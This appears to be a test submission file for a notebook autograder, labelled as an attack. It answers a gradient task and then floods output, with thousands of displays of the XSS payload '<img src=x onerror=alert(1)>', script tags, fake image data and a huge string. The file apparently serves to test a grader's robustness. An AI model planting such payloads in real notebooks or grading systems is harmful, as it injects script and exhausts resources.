# /// attack
# tries = "displays pictures, pages and results without an end"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
from IPython.display import HTML, display

for _ in range(3_000):
    display(HTML("<img src=x onerror=alert(1)>" * 100), display_id="same")
    display({"image/png": "A" * 1000, "text/html": "<script>1</script>"}, raw=True)
"x" * 10**7
